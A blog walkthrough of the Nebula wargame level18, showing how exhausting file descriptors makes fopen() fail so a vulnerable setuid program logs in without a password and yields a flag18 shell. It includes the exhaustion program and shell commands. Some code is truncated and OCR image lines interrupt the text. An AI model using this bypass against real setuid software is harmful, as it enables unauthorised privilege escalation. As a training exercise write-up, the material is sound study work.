Friday, November 2, 2012

exploit-exercises Nebula: level18

This time, we will solve level18 of Nebula wargame. The source code of the vulnerable binary is provided. Most importantly

void login(char *pw)
FILE *fp;

fp = fopen(PWFILE, "r");
if(fp) {
char file[64];

if(fgets(file, sizeof(file) - 1, fp) == NULL) {
dprintf("Unable to read password file %s\n", PWFILE);
if(strcmp(pw, file) != 0) return;dprintf("logged in successfully (with%s password file)\n", fp == NULL ? "out" : "");

globals.loggedin = 1;


As it could be seen, we have to bypass the if(fp) check. Ofcourse, we don't have read access to the password file. What is to be noticed is that global.loggedin = 1 is outside of the if(fp) block. This means that if we are able to make the fopen() call return NULL, we will skip the if conditional block and be loggedin. After investigating what are the possible ways to make the fopen() call fail, I have come across the idea of exhausting file handlers.
level18@nebula:~$ cat /proc/sys/fs/file-nr
288 0 23521
There are 288 open files. The maximum amount of open files simultaneously is 23521 (way higher on my own box.) First thought is to write a program that loops for 24k times calling fopen() each time. But we have some limits.level18@nebula:~$ ulimit -Sn
The soft limit of open files by process is 1024, so we will change that to a higher value, matching the one of the hard limit which can't be increased without privileges.
level18@nebula:~$ ulimit -Hn
level18@nebula:~$ ulimit -Sn 4096
Now we will launch the file handlers exhausting program for a couple of times to exhaust all the file handlers.
level18@nebula:~$ cat fhexhaust.c
#include <stdio.h>
int main(int argc, char *argv[]) {
    int i;
    FILE *fp;
    for(i = 0; i < 4096; i++) {
fp = fopen("/tmp/pwnie18", "r");
    printf("let's take a nap\n");
    return 0;
The program will sleep for 30 seconds, letting us do the job calmly (80 WPM, if that is what you are thinking about.)
We first start flag18, and CTRL-Z out of it.
level18@nebula:~$ touch /tmp/pwnie18
level18@nebula:~$ ../flag18/flag18

[2]+  Stopped(SIGTSTP)        ../flag18/flag18We then launch fhexhaust 6 times.
level18@nebula:~$ for i in {1..6}
> do
> ./a.out &
> done

[2] 4311
[3] 4312
[4] 4313
[5]4314
[6] 4315
[7] 4316
level18@nebula:~$ let's take a nap
let's take a nap
let's take a nap
let's take a nap
let's take a nap
let's take a nap

And we switchback to flag18 to login as the file handlers are exhausted.
level18@nebula:~$ jobs
[1]+  Stopped(SIGTSTP)        ../flag18/flag18
[2]   Running                 ./a.out &
[3]   Running                 ./a.out &
[4]   Running                 ./a.out &
[5]   Running                 ./a.out &
[6]   Running                 ./a.out &
[7]   Running                 ./a.out &
level18@nebula:~$ fg 1
We kill the exhausters (to free their resources) before querying for a shell (Otherwise, execve will return -1 and errno is set
level18@nebula:~$ fg 1
flag18@nebula:~$ iduid=981(flag18) gid=1019(level18) groups=981(flag18),1019(level18)flag18@nebula:~$ getflag
You have successfully executedgetflag on a target account

Nocomments:

Post a Comment